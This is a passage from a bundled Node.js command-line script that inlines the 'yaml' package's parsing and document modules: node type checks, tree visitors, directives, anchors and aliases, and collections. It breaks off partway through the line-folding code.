#!/usr/bin/env node
"use strict";
var __create = Object.create;
var __defProp = Object.defineProperty;
var __getOwnPropDesc = Object.getOwnPropertyDescriptor;
var __getOwnPropNames = Object.getOwnPropertyNames;
var __getProtoOf = Object.getPrototypeOf;
var __hasOwnProp = Object.prototype.hasOwnProperty;
var __esm = (fn, res, err) => function __init() {
  if (err) throw err[0];
  try {
    return fn && (res = (0, fn[__getOwnPropNames(fn)[0]])(fn = 0)), res;
  } catch (e) {
    throw err = [e], e;
  }
};
var __commonJS = (cb, mod) => function __require() {
  try {
    return mod || (0, cb[__getOwnPropNames(cb)[0]])((mod = { exports: {} }).exports, mod), mod.exports;
  } catch (e) {
    throw mod = 0, e;
  }
};
var __export = (target, all) => {
  for (var name in all)
    __defProp(target, name, { get: all[name], enumerable: true });
};
var __copyProps = (to, from, except, desc) => {
  if (from && typeof from === "object" || typeof from === "function") {
    for (let key2 of __getOwnPropNames(from))
      if (!__hasOwnProp.call(to, key2) && key2 !== except)
        __defProp(to, key2, { get: () => from[key2], enumerable: !(desc = __getOwnPropDesc(from, key2)) || desc.enumerable });
  }
  return to;
};
var __toESM = (mod, isNodeMode, target) => (target = mod != null ? __create(__getProtoOf(mod)) : {}, __copyProps(
  // If the importer is in node compatibility mode or this is not an ESM
  // file that has been converted to a CommonJS file using a Babel-
  // compatible transform (i.e. "__esModule" has not been set), then set
  // "default" to the CommonJS "module.exports" for node compatibility.
  isNodeMode || !mod || !mod.__esModule ? __defProp(target, "default", { value: mod, enumerable: true }) : target,
  mod
));
var __toCommonJS = (mod) => __copyProps(__defProp({}, "__esModule", { value: true }), mod);

// node_modules/yaml/dist/nodes/identity.js
var require_identity = __commonJS({
  "node_modules/yaml/dist/nodes/identity.js"(exports2) {
    "use strict";
    var ALIAS = /* @__PURE__ */ Symbol.for("yaml.alias");
    var DOC = /* @__PURE__ */ Symbol.for("yaml.document");
    var MAP = /* @__PURE__ */ Symbol.for("yaml.map");
    var PAIR = /* @__PURE__ */ Symbol.for("yaml.pair");
    var SCALAR = /* @__PURE__ */ Symbol.for("yaml.scalar");
    var SEQ = /* @__PURE__ */ Symbol.for("yaml.seq");
    var NODE_TYPE = /* @__PURE__ */ Symbol.for("yaml.node.type");
    var isAlias3 = (node) => !!node && typeof node === "object" && node[NODE_TYPE] === ALIAS;
    var isDocument = (node) => !!node && typeof node === "object" && node[NODE_TYPE] === DOC;
    var isMap3 = (node) => !!node && typeof node === "object" && node[NODE_TYPE] === MAP;
    var isPair2 = (node) => !!node && typeof node === "object" && node[NODE_TYPE] === PAIR;
    var isScalar3 = (node) => !!node && typeof node === "object" && node[NODE_TYPE] === SCALAR;
    var isSeq3 = (node) => !!node && typeof node === "object" && node[NODE_TYPE] === SEQ;
    function isCollection(node) {
      if (node && typeof node === "object")
        switch (node[NODE_TYPE]) {
          case MAP:
          case SEQ:
            return true;
        }
      return false;
    }
    function isNode(node) {
      if (node && typeof node === "object")
        switch (node[NODE_TYPE]) {
          case ALIAS:
          case MAP:
          case SCALAR:
          case SEQ:
            return true;
        }
      return false;
    }
    var hasAnchor = (node) => (isScalar3(node) || isCollection(node)) && !!node.anchor;
    exports2.ALIAS = ALIAS;
    exports2.DOC = DOC;
    exports2.MAP = MAP;
    exports2.NODE_TYPE = NODE_TYPE;
    exports2.PAIR = PAIR;
    exports2.SCALAR = SCALAR;
    exports2.SEQ = SEQ;
    exports2.hasAnchor = hasAnchor;
    exports2.isAlias = isAlias3;
    exports2.isCollection = isCollection;
    exports2.isDocument = isDocument;
    exports2.isMap = isMap3;
    exports2.isNode = isNode;
    exports2.isPair = isPair2;
    exports2.isScalar = isScalar3;
    exports2.isSeq = isSeq3;
  }
});

// node_modules/yaml/dist/visit.js
var require_visit = __commonJS({
  "node_modules/yaml/dist/visit.js"(exports2) {
    "use strict";
    var identity = require_identity();
    var BREAK = /* @__PURE__ */ Symbol("break visit");
    var SKIP = /* @__PURE__ */ Symbol("skip children");
    var REMOVE = /* @__PURE__ */ Symbol("remove node");
    function visit(node, visitor) {
      const visitor_ = initVisitor(visitor);
      if (identity.isDocument(node)) {
        const cd = visit_(null, node.contents, visitor_, Object.freeze([node]));
        if (cd === REMOVE)
          node.contents = null;
      } else
        visit_(null, node, visitor_, Object.freeze([]));
    }
    visit.BREAK = BREAK;
    visit.SKIP = SKIP;
    visit.REMOVE = REMOVE;
    function visit_(key2, node, visitor, path14) {
      const ctrl = callVisitor(key2, node, visitor, path14);
      if (identity.isNode(ctrl) || identity.isPair(ctrl)) {
        replaceNode(key2, path14, ctrl);
        return visit_(key2, ctrl, visitor, path14);
      }
      if (typeof ctrl !== "symbol") {
        if (identity.isCollection(node)) {
          path14 = Object.freeze(path14.concat(node));
          for (let i = 0; i < node.items.length; ++i) {
            const ci = visit_(i, node.items[i], visitor, path14);
            if (typeof ci === "number")
              i = ci - 1;
            else if (ci === BREAK)
              return BREAK;
            else if (ci === REMOVE) {
              node.items.splice(i, 1);
              i -= 1;
            }
          }
        } else if (identity.isPair(node)) {
          path14 = Object.freeze(path14.concat(node));
          const ck = visit_("key", node.key, visitor, path14);
          if (ck === BREAK)
            return BREAK;
          else if (ck === REMOVE)
            node.key = null;
          const cv = visit_("value", node.value, visitor, path14);
          if (cv === BREAK)
            return BREAK;
          else if (cv === REMOVE)
            node.value = null;
        }
      }
      return ctrl;
    }
    async function visitAsync(node, visitor) {
      const visitor_ = initVisitor(visitor);
      if (identity.isDocument(node)) {
        const cd = await visitAsync_(null, node.contents, visitor_, Object.freeze([node]));
        if (cd === REMOVE)
          node.contents = null;
      } else
        await visitAsync_(null, node, visitor_, Object.freeze([]));
    }
    visitAsync.BREAK = BREAK;
    visitAsync.SKIP = SKIP;
    visitAsync.REMOVE = REMOVE;
    async function visitAsync_(key2, node, visitor, path14) {
      const ctrl = await callVisitor(key2, node, visitor, path14);
      if (identity.isNode(ctrl) || identity.isPair(ctrl)) {
        replaceNode(key2, path14, ctrl);
        return visitAsync_(key2, ctrl, visitor, path14);
      }
      if (typeof ctrl !== "symbol") {
        if (identity.isCollection(node)) {
          path14 = Object.freeze(path14.concat(node));
          for (let i = 0; i < node.items.length; ++i) {
            const ci = await visitAsync_(i, node.items[i], visitor, path14);
            if (typeof ci === "number")
              i = ci - 1;
            else if (ci === BREAK)
              return BREAK;
            else if (ci === REMOVE) {
              node.items.splice(i, 1);
              i -= 1;
            }
          }
        } else if (identity.isPair(node)) {
          path14 = Object.freeze(path14.concat(node));
          const ck = await visitAsync_("key", node.key, visitor, path14);
          if (ck === BREAK)
            return BREAK;
          else if (ck === REMOVE)
            node.key = null;
          const cv = await visitAsync_("value", node.value, visitor, path14);
          if (cv === BREAK)
            return BREAK;
          else if (cv === REMOVE)
            node.value = null;
        }
      }
      return ctrl;
    }
    function initVisitor(visitor) {
      if (typeof visitor === "object" && (visitor.Collection || visitor.Node || visitor.Value)) {
        return Object.assign({
          Alias: visitor.Node,
          Map: visitor.Node,
          Scalar: visitor.Node,
          Seq: visitor.Node
        }, visitor.Value && {
          Map: visitor.Value,
          Scalar: visitor.Value,
          Seq: visitor.Value
        }, visitor.Collection && {
          Map: visitor.Collection,
          Seq: visitor.Collection
        }, visitor);
      }
      return visitor;
    }
    function callVisitor(key2, node, visitor, path14) {
      if (typeof visitor === "function")
        return visitor(key2, node, path14);
      if (identity.isMap(node))
        return visitor.Map?.(key2, node, path14);
      if (identity.isSeq(node))
        return visitor.Seq?.(key2, node, path14);
      if (identity.isPair(node))
        return visitor.Pair?.(key2, node, path14);
      if (identity.isScalar(node))
        return visitor.Scalar?.(key2, node, path14);
      if (identity.isAlias(node))
        return visitor.Alias?.(key2, node, path14);
      return void 0;
    }
    function replaceNode(key2, path14, node) {
      const parent = path14[path14.length - 1];
      if (identity.isCollection(parent)) {
        parent.items[key2] = node;
      } else if (identity.isPair(parent)) {
        if (key2 === "key")
          parent.key = node;
        else
          parent.value = node;
      } else if (identity.isDocument(parent)) {
        parent.contents = node;
      } else {
        const pt = identity.isAlias(parent) ? "alias" : "scalar";
        throw new Error(`Cannot replace node with ${pt} parent`);
      }
    }
    exports2.visit = visit;
    exports2.visitAsync = visitAsync;
  }
});

// node_modules/yaml/dist/doc/directives.js
var require_directives = __commonJS({
  "node_modules/yaml/dist/doc/directives.js"(exports2) {
    "use strict";
    var identity = require_identity();
    var visit = require_visit();
    var escapeChars = {
      "!": "%21",
      ",": "%2C",
      "[": "%5B",
      "]": "%5D",
      "{": "%7B",
      "}": "%7D"
    };
    var escapeTagName = (tn) => tn.replace(/[!,[\]{}]/g, (ch) => escapeChars[ch]);
    var Directives = class _Directives {
      constructor(yaml, tags) {
        this.docStart = null;
        this.docEnd = false;
        this.yaml = Object.assign({}, _Directives.defaultYaml, yaml);
        this.tags = Object.assign({}, _Directives.defaultTags, tags);
      }
      clone() {
        const copy = new _Directives(this.yaml, this.tags);
        copy.docStart = this.docStart;
        return copy;
      }
      /**
       * During parsing, get a Directives instance for the current document and
       * update the stream state according to the current version's spec.
       */
      atDocument() {
        const res = new _Directives(this.yaml, this.tags);
        switch (this.yaml.version) {
          case "1.1":
            this.atNextDocument = true;
            break;
          case "1.2":
            this.atNextDocument = false;
            this.yaml = {
              explicit: _Directives.defaultYaml.explicit,
              version: "1.2"
            };
            this.tags = Object.assign({}, _Directives.defaultTags);
            break;
        }
        return res;
      }
      /**
       * @param onError - May be called even if the action was successful
       * @returns `true` on success
       */
      add(line, onError) {
        if (this.atNextDocument) {
          this.yaml = { explicit: _Directives.defaultYaml.explicit, version: "1.1" };
          this.tags = Object.assign({}, _Directives.defaultTags);
          this.atNextDocument = false;
        }
        const parts = line.trim().split(/[ \t]+/);
        const name = parts.shift();
        switch (name) {
          case "%TAG": {
            if (parts.length !== 2) {
              onError(0, "%TAG directive should contain exactly two parts");
              if (parts.length < 2)
                return false;
            }
            const [handle, prefix] = parts;
            this.tags[handle] = prefix;
            return true;
          }
          case "%YAML": {
            this.yaml.explicit = true;
            if (parts.length !== 1) {
              onError(0, "%YAML directive should contain exactly one part");
              return false;
            }
            const [version] = parts;
            if (version === "1.1" || version === "1.2") {
              this.yaml.version = version;
              return true;
            } else {
              const isValid = /^\d+\.\d+$/.test(version);
              onError(6, `Unsupported YAML version ${version}`, isValid);
              return false;
            }
          }
          default:
            onError(0, `Unknown directive ${name}`, true);
            return false;
        }
      }
      /**
       * Resolves a tag, matching handles to those defined in %TAG directives.
       *
       * @returns Resolved tag, which may also be the non-specific tag `'!'` or a
       *   `'!local'` tag, or `null` if unresolvable.
       */
      tagName(source, onError) {
        if (source === "!")
          return "!";
        if (source[0] !== "!") {
          onError(`Not a valid tag: ${source}`);
          return null;
        }
        if (source[1] === "<") {
          const verbatim = source.slice(2, -1);
          if (verbatim === "!" || verbatim === "!!") {
            onError(`Verbatim tags aren't resolved, so ${source} is invalid.`);
            return null;
          }
          if (source[source.length - 1] !== ">")
            onError("Verbatim tags must end with a >");
          return verbatim;
        }
        const [, handle, suffix] = source.match(/^(.*!)([^!]*)$/s);
        if (!suffix)
          onError(`The ${source} tag has no suffix`);
        const prefix = this.tags[handle];
        if (prefix) {
          try {
            return prefix + decodeURIComponent(suffix);
          } catch (error) {
            onError(String(error));
            return null;
          }
        }
        if (handle === "!")
          return source;
        onError(`Could not resolve tag: ${source}`);
        return null;
      }
      /**
       * Given a fully resolved tag, returns its printable string form,
       * taking into account current tag prefixes and defaults.
       */
      tagString(tag) {
        for (const [handle, prefix] of Object.entries(this.tags)) {
          if (tag.startsWith(prefix))
            return handle + escapeTagName(tag.substring(prefix.length));
        }
        return tag[0] === "!" ? tag : `!<${tag}>`;
      }
      toString(doc) {
        const lines = this.yaml.explicit ? [`%YAML ${this.yaml.version || "1.2"}`] : [];
        const tagEntries = Object.entries(this.tags);
        let tagNames;
        if (doc && tagEntries.length > 0 && identity.isNode(doc.contents)) {
          const tags = {};
          visit.visit(doc.contents, (_key, node) => {
            if (identity.isNode(node) && node.tag)
              tags[node.tag] = true;
          });
          tagNames = Object.keys(tags);
        } else
          tagNames = [];
        for (const [handle, prefix] of tagEntries) {
          if (handle === "!!" && prefix === "tag:yaml.org,2002:")
            continue;
          if (!doc || tagNames.some((tn) => tn.startsWith(prefix)))
            lines.push(`%TAG ${handle} ${prefix}`);
        }
        return lines.join("\n");
      }
    };
    Directives.defaultYaml = { explicit: false, version: "1.2" };
    Directives.defaultTags = { "!!": "tag:yaml.org,2002:" };
    exports2.Directives = Directives;
  }
});

// node_modules/yaml/dist/doc/anchors.js
var require_anchors = __commonJS({
  "node_modules/yaml/dist/doc/anchors.js"(exports2) {
    "use strict";
    var identity = require_identity();
    var visit = require_visit();
    function anchorIsValid(anchor) {
      if (/[\x00-\x19\s,[\]{}]/.test(anchor)) {
        const sa = JSON.stringify(anchor);
        const msg = `Anchor must not contain whitespace or control characters: ${sa}`;
        throw new Error(msg);
      }
      return true;
    }
    function anchorNames(root) {
      const anchors = /* @__PURE__ */ new Set();
      visit.visit(root, {
        Value(_key, node) {
          if (node.anchor)
            anchors.add(node.anchor);
        }
      });
      return anchors;
    }
    function findNewAnchor(prefix, exclude) {
      for (let i = 1; true; ++i) {
        const name = `${prefix}${i}`;
        if (!exclude.has(name))
          return name;
      }
    }
    function createNodeAnchors(doc, prefix) {
      const aliasObjects = [];
      const sourceObjects = /* @__PURE__ */ new Map();
      let prevAnchors = null;
      return {
        onAnchor: (source) => {
          aliasObjects.push(source);
          prevAnchors ?? (prevAnchors = anchorNames(doc));
          const anchor = findNewAnchor(prefix, prevAnchors);
          prevAnchors.add(anchor);
          return anchor;
        },
        /**
         * With circular references, the source node is only resolved after all
         * of its child nodes are. This is why anchors are set only after all of
         * the nodes have been created.
         */
        setAnchors: () => {
          for (const source of aliasObjects) {
            const ref = sourceObjects.get(source);
            if (typeof ref === "object" && ref.anchor && (identity.isScalar(ref.node) || identity.isCollection(ref.node))) {
              ref.node.anchor = ref.anchor;
            } else {
              const error = new Error("Failed to resolve repeated object (this should not happen)");
              error.source = source;
              throw error;
            }
          }
        },
        sourceObjects
      };
    }
    exports2.anchorIsValid = anchorIsValid;
    exports2.anchorNames = anchorNames;
    exports2.createNodeAnchors = createNodeAnchors;
    exports2.findNewAnchor = findNewAnchor;
  }
});

// node_modules/yaml/dist/doc/applyReviver.js
var require_applyReviver = __commonJS({
  "node_modules/yaml/dist/doc/applyReviver.js"(exports2) {
    "use strict";
    function applyReviver(reviver, obj2, key2, val) {
      if (val && typeof val === "object") {
        if (Array.isArray(val)) {
          for (let i = 0, len = val.length; i < len; ++i) {
            const v0 = val[i];
            const v1 = applyReviver(reviver, val, String(i), v0);
            if (v1 === void 0)
              delete val[i];
            else if (v1 !== v0)
              val[i] = v1;
          }
        } else if (val instanceof Map) {
          for (const k of Array.from(val.keys())) {
            const v0 = val.get(k);
            const v1 = applyReviver(reviver, val, k, v0);
            if (v1 === void 0)
              val.delete(k);
            else if (v1 !== v0)
              val.set(k, v1);
          }
        } else if (val instanceof Set) {
          for (const v0 of Array.from(val)) {
            const v1 = applyReviver(reviver, val, v0, v0);
            if (v1 === void 0)
              val.delete(v0);
            else if (v1 !== v0) {
              val.delete(v0);
              val.add(v1);
            }
          }
        } else {
          for (const [k, v0] of Object.entries(val)) {
            const v1 = applyReviver(reviver, val, k, v0);
            if (v1 === void 0)
              delete val[k];
            else if (v1 !== v0)
              val[k] = v1;
          }
        }
      }
      return reviver.call(obj2, key2, val);
    }
    exports2.applyReviver = applyReviver;
  }
});

// node_modules/yaml/dist/nodes/toJS.js
var require_toJS = __commonJS({
  "node_modules/yaml/dist/nodes/toJS.js"(exports2) {
    "use strict";
    var identity = require_identity();
    function toJS(value, arg, ctx) {
      if (Array.isArray(value))
        return value.map((v, i) => toJS(v, String(i), ctx));
      if (value && typeof value.toJSON === "function") {
        if (!ctx || !identity.hasAnchor(value))
          return value.toJSON(arg, ctx);
        const data = { aliasCount: 0, count: 1, res: void 0 };
        ctx.anchors.set(value, data);
        ctx.onCreate = (res2) => {
          data.res = res2;
          delete ctx.onCreate;
        };
        const res = value.toJSON(arg, ctx);
        if (ctx.onCreate)
          ctx.onCreate(res);
        return res;
      }
      if (typeof value === "bigint" && !ctx?.keep)
        return Number(value);
      return value;
    }
    exports2.toJS = toJS;
  }
});

// node_modules/yaml/dist/nodes/Node.js
var require_Node = __commonJS({
  "node_modules/yaml/dist/nodes/Node.js"(exports2) {
    "use strict";
    var applyReviver = require_applyReviver();
    var identity = require_identity();
    var toJS = require_toJS();
    var NodeBase = class {
      constructor(type) {
        Object.defineProperty(this, identity.NODE_TYPE, { value: type });
      }
      /** Create a copy of this node.  */
      clone() {
        const copy = Object.create(Object.getPrototypeOf(this), Object.getOwnPropertyDescriptors(this));
        if (this.range)
          copy.range = this.range.slice();
        return copy;
      }
      /** A plain JavaScript representation of this node. */
      toJS(doc, { mapAsMap, maxAliasCount, onAnchor, reviver } = {}) {
        if (!identity.isDocument(doc))
          throw new TypeError("A document argument is required");
        const ctx = {
          anchors: /* @__PURE__ */ new Map(),
          doc,
          keep: true,
          mapAsMap: mapAsMap === true,
          mapKeyWarned: false,
          maxAliasCount: typeof maxAliasCount === "number" ? maxAliasCount : 100
        };
        const res = toJS.toJS(this, "", ctx);
        if (typeof onAnchor === "function")
          for (const { count, res: res2 } of ctx.anchors.values())
            onAnchor(res2, count);
        return typeof reviver === "function" ? applyReviver.applyReviver(reviver, { "": res }, "", res) : res;
      }
    };
    exports2.NodeBase = NodeBase;
  }
});

// node_modules/yaml/dist/nodes/Alias.js
var require_Alias = __commonJS({
  "node_modules/yaml/dist/nodes/Alias.js"(exports2) {
    "use strict";
    var anchors = require_anchors();
    var visit = require_visit();
    var identity = require_identity();
    var Node = require_Node();
    var toJS = require_toJS();
    var Alias = class extends Node.NodeBase {
      constructor(source) {
        super(identity.ALIAS);
        this.source = source;
        Object.defineProperty(this, "tag", {
          set() {
            throw new Error("Alias nodes cannot have tags");
          }
        });
      }
      /**
       * Resolve the value of this alias within `doc`, finding the last
       * instance of the `source` anchor before this node.
       */
      resolve(doc, ctx) {
        if (ctx?.maxAliasCount === 0)
          throw new ReferenceError("Alias resolution is disabled");
        let nodes;
        if (ctx?.aliasResolveCache) {
          nodes = ctx.aliasResolveCache;
        } else {
          nodes = [];
          visit.visit(doc, {
            Node: (_key, node) => {
              if (identity.isAlias(node) || identity.hasAnchor(node))
                nodes.push(node);
            }
          });
          if (ctx)
            ctx.aliasResolveCache = nodes;
        }
        let found = void 0;
        for (const node of nodes) {
          if (node === this)
            break;
          if (node.anchor === this.source)
            found = node;
        }
        if (found && ctx) {
          const { anchors: anchors2, doc: doc2, maxAliasCount } = ctx;
          let data = anchors2.get(found);
          if (!data) {
            toJS.toJS(found, null, ctx);
            data = anchors2.get(found);
          }
          if (data?.res === void 0) {
            const msg = "This should not happen: Alias anchor was not resolved?";
            throw new ReferenceError(msg);
          }
          if (maxAliasCount >= 0) {
            data.count += 1;
            if (data.aliasCount === 0)
              data.aliasCount = getAliasCount(doc2, found, anchors2);
            if (data.count * data.aliasCount > maxAliasCount) {
              const msg = "Excessive alias count indicates a resource exhaustion attack";
              throw new ReferenceError(msg);
            }
          }
        }
        return found;
      }
      toJSON(_arg, ctx) {
        if (!ctx)
          return { source: this.source };
        const source = this.resolve(ctx.doc, ctx);
        if (!source) {
          const msg = `Unresolved alias (the anchor must be set before the alias): ${this.source}`;
          throw new ReferenceError(msg);
        }
        return ctx.anchors.get(source).res;
      }
      toString(ctx, _onComment, _onChompKeep) {
        const src = `*${this.source}`;
        if (ctx) {
          anchors.anchorIsValid(this.source);
          if (ctx.options.verifyAliasOrder && !ctx.anchors.has(this.source)) {
            const msg = `Unresolved alias (the anchor must be set before the alias): ${this.source}`;
            throw new Error(msg);
          }
          if (ctx.implicitKey)
            return `${src} `;
        }
        return src;
      }
    };
    function getAliasCount(doc, node, anchors2) {
      if (identity.isAlias(node)) {
        const source = node.resolve(doc);
        const anchor = anchors2 && source && anchors2.get(source);
        return anchor ? anchor.count * anchor.aliasCount : 0;
      } else if (identity.isCollection(node)) {
        let count = 0;
        for (const item of node.items) {
          const c = getAliasCount(doc, item, anchors2);
          if (c > count)
            count = c;
        }
        return count;
      } else if (identity.isPair(node)) {
        const kc = getAliasCount(doc, node.key, anchors2);
        const vc = getAliasCount(doc, node.value, anchors2);
        return Math.max(kc, vc);
      }
      return 1;
    }
    exports2.Alias = Alias;
  }
});

// node_modules/yaml/dist/nodes/Scalar.js
var require_Scalar = __commonJS({
  "node_modules/yaml/dist/nodes/Scalar.js"(exports2) {
    "use strict";
    var identity = require_identity();
    var Node = require_Node();
    var toJS = require_toJS();
    var isScalarValue = (value) => !value || typeof value !== "function" && typeof value !== "object";
    var Scalar2 = class extends Node.NodeBase {
      constructor(value) {
        super(identity.SCALAR);
        this.value = value;
      }
      toJSON(arg, ctx) {
        return ctx?.keep ? this.value : toJS.toJS(this.value, arg, ctx);
      }
      toString() {
        return String(this.value);
      }
    };
    Scalar2.BLOCK_FOLDED = "BLOCK_FOLDED";
    Scalar2.BLOCK_LITERAL = "BLOCK_LITERAL";
    Scalar2.PLAIN = "PLAIN";
    Scalar2.QUOTE_DOUBLE = "QUOTE_DOUBLE";
    Scalar2.QUOTE_SINGLE = "QUOTE_SINGLE";
    exports2.Scalar = Scalar2;
    exports2.isScalarValue = isScalarValue;
  }
});

// node_modules/yaml/dist/doc/createNode.js
var require_createNode = __commonJS({
  "node_modules/yaml/dist/doc/createNode.js"(exports2) {
    "use strict";
    var Alias = require_Alias();
    var identity = require_identity();
    var Scalar2 = require_Scalar();
    var defaultTagPrefix = "tag:yaml.org,2002:";
    function findTagObject(value, tagName, tags) {
      if (tagName) {
        const match = tags.filter((t) => t.tag === tagName);
        const tagObj = match.find((t) => !t.format) ?? match[0];
        if (!tagObj)
          throw new Error(`Tag ${tagName} not found`);
        return tagObj;
      }
      return tags.find((t) => t.identify?.(value) && !t.format);
    }
    function createNode(value, tagName, ctx) {
      if (identity.isDocument(value))
        value = value.contents;
      if (identity.isNode(value))
        return value;
      if (identity.isPair(value)) {
        const map = ctx.schema[identity.MAP].createNode?.(ctx.schema, null, ctx);
        map.items.push(value);
        return map;
      }
      if (value instanceof String || value instanceof Number || value instanceof Boolean || typeof BigInt !== "undefined" && value instanceof BigInt) {
        value = value.valueOf();
      }
      const { aliasDuplicateObjects, onAnchor, onTagObj, schema, sourceObjects } = ctx;
      let ref = void 0;
      if (aliasDuplicateObjects && value && typeof value === "object") {
        ref = sourceObjects.get(value);
        if (ref) {
          ref.anchor ?? (ref.anchor = onAnchor(value));
          return new Alias.Alias(ref.anchor);
        } else {
          ref = { anchor: null, node: null };
          sourceObjects.set(value, ref);
        }
      }
      if (tagName?.startsWith("!!"))
        tagName = defaultTagPrefix + tagName.slice(2);
      let tagObj = findTagObject(value, tagName, schema.tags);
      if (!tagObj) {
        if (value && typeof value.toJSON === "function") {
          value = value.toJSON();
        }
        if (!value || typeof value !== "object") {
          const node2 = new Scalar2.Scalar(value);
          if (ref)
            ref.node = node2;
          return node2;
        }
        tagObj = value instanceof Map ? schema[identity.MAP] : Symbol.iterator in Object(value) ? schema[identity.SEQ] : schema[identity.MAP];
      }
      if (onTagObj) {
        onTagObj(tagObj);
        delete ctx.onTagObj;
      }
      const node = tagObj?.createNode ? tagObj.createNode(ctx.schema, value, ctx) : typeof tagObj?.nodeClass?.from === "function" ? tagObj.nodeClass.from(ctx.schema, value, ctx) : new Scalar2.Scalar(value);
      if (tagName)
        node.tag = tagName;
      else if (!tagObj.default)
        node.tag = tagObj.tag;
      if (ref)
        ref.node = node;
      return node;
    }
    exports2.createNode = createNode;
  }
});

// node_modules/yaml/dist/nodes/Collection.js
var require_Collection = __commonJS({
  "node_modules/yaml/dist/nodes/Collection.js"(exports2) {
    "use strict";
    var createNode = require_createNode();
    var identity = require_identity();
    var Node = require_Node();
    function collectionFromPath(schema, path14, value) {
      let v = value;
      for (let i = path14.length - 1; i >= 0; --i) {
        const k = path14[i];
        if (typeof k === "number" && Number.isInteger(k) && k >= 0) {
          const a = [];
          a[k] = v;
          v = a;
        } else {
          v = /* @__PURE__ */ new Map([[k, v]]);
        }
      }
      return createNode.createNode(v, void 0, {
        aliasDuplicateObjects: false,
        keepUndefined: false,
        onAnchor: () => {
          throw new Error("This should not happen, please report a bug.");
        },
        schema,
        sourceObjects: /* @__PURE__ */ new Map()
      });
    }
    var isEmptyPath = (path14) => path14 == null || typeof path14 === "object" && !!path14[Symbol.iterator]().next().done;
    var Collection = class extends Node.NodeBase {
      constructor(type, schema) {
        super(type);
        Object.defineProperty(this, "schema", {
          value: schema,
          configurable: true,
          enumerable: false,
          writable: true
        });
      }
      /**
       * Create a copy of this collection.
       *
       * @param schema - If defined, overwrites the original's schema
       */
      clone(schema) {
        const copy = Object.create(Object.getPrototypeOf(this), Object.getOwnPropertyDescriptors(this));
        if (schema)
          copy.schema = schema;
        copy.items = copy.items.map((it) => identity.isNode(it) || identity.isPair(it) ? it.clone(schema) : it);
        if (this.range)
          copy.range = this.range.slice();
        return copy;
      }
      /**
       * Adds a value to the collection. For `!!map` and `!!omap` the value must
       * be a Pair instance or a `{ key, value }` object, which may not have a key
       * that already exists in the map.
       */
      addIn(path14, value) {
        if (isEmptyPath(path14))
          this.add(value);
        else {
          const [key2, ...rest] = path14;
          const node = this.get(key2, true);
          if (identity.isCollection(node))
            node.addIn(rest, value);
          else if (node === void 0 && this.schema)
            this.set(key2, collectionFromPath(this.schema, rest, value));
          else
            throw new Error(`Expected YAML collection at ${key2}. Remaining path: ${rest}`);
        }
      }
      /**
       * Removes a value from the collection.
       * @returns `true` if the item was found and removed.
       */
      deleteIn(path14) {
        const [key2, ...rest] = path14;
        if (rest.length === 0)
          return this.delete(key2);
        const node = this.get(key2, true);
        if (identity.isCollection(node))
          return node.deleteIn(rest);
        else
          throw new Error(`Expected YAML collection at ${key2}. Remaining path: ${rest}`);
      }
      /**
       * Returns item at `key`, or `undefined` if not found. By default unwraps
       * scalar values from their surrounding node; to disable set `keepScalar` to
       * `true` (collections are always returned intact).
       */
      getIn(path14, keepScalar) {
        const [key2, ...rest] = path14;
        const node = this.get(key2, true);
        if (rest.length === 0)
          return !keepScalar && identity.isScalar(node) ? node.value : node;
        else
          return identity.isCollection(node) ? node.getIn(rest, keepScalar) : void 0;
      }
      hasAllNullValues(allowScalar) {
        return this.items.every((node) => {
          if (!identity.isPair(node))
            return false;
          const n = node.value;
          return n == null || allowScalar && identity.isScalar(n) && n.value == null && !n.commentBefore && !n.comment && !n.tag;
        });
      }
      /**
       * Checks if the collection includes a value with the key `key`.
       */
      hasIn(path14) {
        const [key2, ...rest] = path14;
        if (rest.length === 0)
          return this.has(key2);
        const node = this.get(key2, true);
        return identity.isCollection(node) ? node.hasIn(rest) : false;
      }
      /**
       * Sets a value in this collection. For `!!set`, `value` needs to be a
       * boolean to add/remove the item from the set.
       */
      setIn(path14, value) {
        const [key2, ...rest] = path14;
        if (rest.length === 0) {
          this.set(key2, value);
        } else {
          const node = this.get(key2, true);
          if (identity.isCollection(node))
            node.setIn(rest, value);
          else if (node === void 0 && this.schema)
            this.set(key2, collectionFromPath(this.schema, rest, value));
          else
            throw new Error(`Expected YAML collection at ${key2}. Remaining path: ${rest}`);
        }
      }
    };
    exports2.Collection = Collection;
    exports2.collectionFromPath = collectionFromPath;
    exports2.isEmptyPath = isEmptyPath;
  }
});

// node_modules/yaml/dist/stringify/stringifyComment.js
var require_stringifyComment = __commonJS({
  "node_modules/yaml/dist/stringify/stringifyComment.js"(exports2) {
    "use strict";
    var stringifyComment = (str3) => str3.replace(/^(?!$)(?: $)?/gm, "#");
    function indentComment(comment, indent) {
      if (/^\n+$/.test(comment))
        return comment.substring(1);
      return indent ? comment.replace(/^(?! *$)/gm, indent) : comment;
    }
    var lineComment = (str3, indent, comment) => str3.endsWith("\n") ? indentComment(comment, indent) : comment.includes("\n") ? "\n" + indentComment(comment, indent) : (str3.endsWith(" ") ? "" : " ") + comment;
    exports2.indentComment = indentComment;
    exports2.lineComment = lineComment;
    exports2.stringifyComment = stringifyComment;
  }
});

// node_modules/yaml/dist/stringify/foldFlowLines.js
var require_foldFlowLines = __commonJS({
  "node_modules/yaml/dist/stringify/foldFlowLines.js"(exports2) {
    "use strict";
    var FOLD_FLOW = "flow";
    var FOLD_BLOCK = "block";
    var FOLD_QUOTED = "quoted";
    function foldFlowLines(text, indent, mode = "flow", { indentAtStart, lineWidth = 80, minContentWidth = 20, onFold, onOverflow } = {}) {
      if (!lineWidth || lineWidth < 0)
        return text;
      if (lineWidth < minContentWidth)
        minContentWidth = 0;
      const endStep = Math.max(1 + minContentWidth, 1 + lineWidth - indent.length);
      if (text.length <= endStep)
        return text;
      const folds = [];
      const escapedFolds = {};
      let end = lineWidth - indent.length;
      if (typeof indentAtStart === "number") {
        if (indentAtStart > lineWidth - Math.max(2, minContentWidth))
          folds.push(0);
        else
          end = lineWidth - indentAtStart;
      }
      let split = void 0;
      let prev = void 0;
      let overflow = false;
      let i = -1;
      let escStart = -1;
      let escEnd = -1;
      if (mode === FOLD_BLOCK) {
        i = consumeMoreIndentedLines(text, i, indent.length);
        if (i !== -1)
          end = i + endStep;
      }
      for (let ch; ch = text[i += 1]; ) {
        if (mode === FOLD_QUOTED && ch === "\\") {
          escStart = i;
          switch (text[i + 1]) {
            case "x":
              i += 3;
              break;
            case "u":
              i += 5;
              break;
            case "U":
              i += 9;
              break;
            default:
              i += 1;
          }
          escEnd = i;
        }
        if (ch === "\n") {
          if (mode === FOLD_BLOCK)
            i = consumeMoreIndentedLines(text, i, indent.length);
          end = i + indent.length + endStep;
          split = void 0;
        } else {
